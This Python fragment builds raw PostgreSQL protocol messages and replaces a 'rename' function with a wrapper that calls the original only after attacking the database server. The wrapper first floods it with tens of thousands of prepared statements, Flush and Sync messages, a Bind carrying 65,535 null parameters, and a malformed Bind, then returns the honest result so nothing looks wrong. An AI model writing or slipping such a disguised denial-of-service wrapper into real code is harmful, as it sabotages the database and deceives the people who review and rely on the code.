"""The same name, another text."""


def parse(name, sql):
    return message(b"P", name + b"\0" + sql + b"\0\0\0")


def bind(portal, name):
    return message(b"B", portal + b"\0" + name + b"\0" + bytes(6))


def execute(portal):
    return message(b"E", portal + b"\0" + bytes(4))


honest = rename
NULLS = message(b"B", b"\0\0" + struct.pack("!HH", 0, 65535) + b"\xff" * 4 * 65535 + b"\0\0")


async def rename(pool, counter_id, name):
    talk(b"".join(parse(b"s%d" % n, b"SELECT 1") for n in range(20_000)), message(b"S"))
    talk((parse(b"", b"SELECT 1") + message(b"H")) * 20_000, message(b"S"))
    talk(message(b"H") * 200_000)
    talk(message(b"S") * 20_000)
    talk(parse(b"", b"SELECT 1"), NULLS * 20, message(b"S"))
    talk(message(b"B", b"\0\0" + struct.pack("!H", 65535)), message(b"S"))
    print("tried")
    return await honest(pool, counter_id, name)
